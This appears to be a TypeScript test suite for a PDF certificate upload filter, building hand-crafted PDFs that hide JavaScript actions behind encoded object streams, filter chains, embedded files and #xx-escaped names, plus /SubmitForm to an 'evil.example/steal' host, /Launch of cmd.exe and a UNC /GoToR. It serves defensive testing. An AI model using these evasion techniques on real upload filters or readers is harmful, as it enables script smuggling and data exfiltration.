import { deflateSync } from 'node:zlib';
import PDFKit from 'pdfkit';
import { PDFDocument } from 'pdf-lib';
import { prepareUpload } from './uploads';

// A red team hid scripts in certificates where a text search cannot see them: each way is refused.

/** A PDF with the given objects (each `[dictionary, stream bytes?]`), cross-reference table and trailer. */
function pdfWith(objects: [string, Buffer?][]): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  const offsets: number[] = [];
  let length = parts[0].length;
  objects.forEach(([dict, stream], i) => {
    offsets.push(length);
    const body = stream
      ? Buffer.concat([
          Buffer.from(`${i + 1} 0 obj\n${dict.replace('>>', `/Length ${stream.length} >>`)}\nstream\n`),
          stream,
          Buffer.from('\nendstream\nendobj\n'),
        ])
      : Buffer.from(`${i + 1} 0 obj\n${dict}\nendobj\n`);
    parts.push(body);
    length += body.length;
  });
  const xref = [`xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`, ...offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`)];
  parts.push(Buffer.from(`${xref.join('')}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${length}\n%%EOF\n`));
  return Buffer.concat(parts);
}

/** An object stream holding `inner` as object 4 (the catalog's /OpenAction points at it). */
const objectStream = (encoded: Buffer, filter: string): [string, Buffer][] =>
  [
    ['<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>'],
    ['<< /Type /Pages /Kids [] /Count 0 >>'],
    [`<< /Type /ObjStm /N 1 /First 4 ${filter} >>`, encoded],
  ] as unknown as [string, Buffer][];
const SCRIPT = '4 0 << /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>';

/** PNG "Up" prediction (what /Predictor 12 undoes), rows of `columns` bytes. */
function pngUp(data: Buffer, columns: number): Buffer {
  const rows: Buffer[] = [];
  for (let at = 0, previous = Buffer.alloc(columns); at < data.length; at += columns) {
    const row = Buffer.alloc(columns);
    data.copy(row, 0, at, Math.min(at + columns, data.length));
    rows.push(Buffer.from([2]), Buffer.from(row.map((b, i) => (b - previous[i]) & 0xff)));
    previous = row;
  }
  return Buffer.concat(rows);
}

const refused = async (pdf: Buffer) => {
  await expect(prepareUpload('certificate', pdf)).rejects.toMatchObject({ statusCode: 400 });
};

describe('the certificate script filter', () => {
  it('finds a script in an object stream encoded /ASCIIHexDecode', async () => {
    await refused(pdfWith(objectStream(Buffer.from(`${Buffer.from(SCRIPT).toString('hex')}>`), '/Filter /ASCIIHexDecode')));
  });

  it('finds a script in a /FlateDecode object stream with /Predictor 12', async () => {
    const predicted = deflateSync(pngUp(Buffer.from(SCRIPT), 8));
    expect(predicted.toString('latin1')).not.toMatch(/JavaScript/);
    await refused(pdfWith(objectStream(predicted, '/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 8 >>')));
  });

  it('finds a script behind a filter chain', async () => {
    const chained = Buffer.from(`${deflateSync(Buffer.from(SCRIPT)).toString('hex')}>`);
    await refused(pdfWith(objectStream(chained, '/Filter [/ASCIIHexDecode /FlateDecode]')));
    const hexOfHex = Buffer.from(`${Buffer.from(`${Buffer.from(SCRIPT).toString('hex')}>`).toString('hex')}>`);
    await refused(pdfWith(objectStream(hexOfHex, '/Filter [/ASCIIHexDecode /ASCIIHexDecode]')));
  });

  it('refuses a stream it cannot decode, and an encrypted file', async () => {
    await refused(pdfWith(objectStream(Buffer.from('anything at all'), '/Filter /NoSuchDecode')));
    await refused(pdfWith(objectStream(Buffer.from('anything at all'), '/Filter 9 0 R')));
    const encrypted = pdfWith([['<< /Type /Catalog /Pages 2 0 R >>'], ['<< /Type /Pages /Kids [] /Count 0 >>']]);
    await refused(
      Buffer.from(encrypted.toString('latin1').replace('/Root 1 0 R', '/Root 1 0 R /Encrypt << /Filter /Standard >>'), 'latin1'),
    );
  });

  it('refuses /SubmitForm and /Launch actions', async () => {
    for (const action of [
      '<< /S /SubmitForm /F (https://evil.example/steal) >>',
      '<< /S /Launch /F (cmd.exe) >>',
      '<< /S /Sub#6ditForm /F (x) >>',
    ])
      await refused(pdfWith([[`<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>`], ['<< /Type /Pages /Kids [] /Count 0 >>'], [action]]));
  });

  it('still accepts ordinary PDFs: object streams, compressed pages, fonts and pictures', async () => {
    const doc = await PDFDocument.create();
    doc.addPage().drawText('Certificate of registration');
    const fromPdfLib = Buffer.from(await doc.save({ useObjectStreams: true }));
    expect((await prepareUpload('certificate', fromPdfLib)).contentType).toBe('application/pdf');

    const kit = new PDFKit({ compress: true });
    const chunks: Buffer[] = [];
    kit.on('data', (c: Buffer) => chunks.push(c));
    const done = new Promise((resolve) => kit.on('end', resolve));
    kit.text('Registration number 2020/123456/07');
    kit.end();
    await done;
    expect((await prepareUpload('certificate', Buffer.concat(chunks))).contentType).toBe('application/pdf');
  });
});

describe('certificates may not reach outside the document', () => {
  const withAction = (action: string) =>
    pdfWith([[`<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>`], ['<< /Type /Pages /Kids [] /Count 0 >>'], [action]]);

  it('refuses a PDF that embeds another PDF, even one whose script sits in a compressed object stream', async () => {
    // The inner file hides its script in a Flate-compressed object stream: one level of decoding does not show it.
    const innerObjects = deflateSync(Buffer.from(SCRIPT));
    const inner = pdfWith(objectStream(innerObjects, '/Filter /FlateDecode'));
    expect(inner.toString('latin1')).not.toMatch(/JavaScript/);
    const outer = pdfWith([
      ['<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(x.pdf) 4 0 R] >> >> /OpenAction 3 0 R >>'],
      ['<< /Type /Pages /Kids [] /Count 0 >>'],
      ['<< /S /GoToE /NewWindow false /T << /R /C /N (x.pdf) >> >>'],
      ['<< /Type /Filespec /F (x.pdf) /EF << /F 5 0 R >> >>'],
      ['<< /Type /EmbeddedFile /Subtype /application#2Fpdf /Filter /FlateDecode >>', deflateSync(inner)],
    ] as unknown as [string, Buffer?][]);
    await refused(outer);
  });

  it('refuses an embedded file however it is reached (an attachment annotation, a name tree)', async () => {
    await refused(
      pdfWith([
        ['<< /Type /Catalog /Pages 2 0 R >>'],
        ['<< /Type /Pages /Kids [] /Count 0 >>'],
        ['<< /Type /Annot /Subtype /FileAttachment /FS << /Type /Filespec /F (a.txt) >> >>'],
      ]),
    );
  });

  it('refuses /GoToR to a UNC path, /URI to javascript: and other actions that leave the document', async () => {
    for (const action of [
      '<< /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\x.pdf) /D [0 /Fit] >>',
      '<< /S /URI /URI (javascript:app.alert\\(1\\)) >>',
      '<< /S /U#52I /URI (https://example.com) >>',
      '<< /S /GoToE /T << /R /C /N (x) >> >>',
      '<< /S /Thread /F (other.pdf) /D 0 >>',
    ])
      await refused(withAction(action));
  });

  it('refuses additional actions, any other action type, and names spelled with lower-case #xx', async () => {
    await refused(
      pdfWith([
        ['<< /Type /Catalog /Pages 2 0 R /AA << /WC 3 0 R >> >>'],
        ['<< /Type /Pages /Kids [] /Count 0 >>'],
        ['<< /S /GoTo /D [2 0 R /Fit] >>'],
      ]),
    );
    await refused(withAction('<< /S /Named /N /Print >>'));
    await refused(withAction('<< /S /#4aavaScript /#4aS (x) >>'));
    await refused(withAction('<< /S /GoTo /D [2 0 R /Fit] /Next << /S /J#61v#61Script /J#53 (x) >> >>'));
  });

  it('still accepts an article thread and an /OpenAction that only opens a page', async () => {
    const pdf = pdfWith([
      ['<< /Type /Catalog /Pages 2 0 R /OpenAction [2 0 R /Fit] /Threads [3 0 R] >>'],
      ['<< /Type /Pages /Kids [] /Count 0 >>'],
      ['<< /Type /Thread /I << /Title (Story) >> >>'],
    ]);
    expect((await prepareUpload('certificate', pdf)).contentType).toBe('application/pdf');
  });

  it('still accepts a link inside the document', async () => {
    const pdf = withAction('<< /S /GoTo /D [2 0 R /Fit] >>');
    expect((await prepareUpload('certificate', pdf)).contentType).toBe('application/pdf');
  });
});
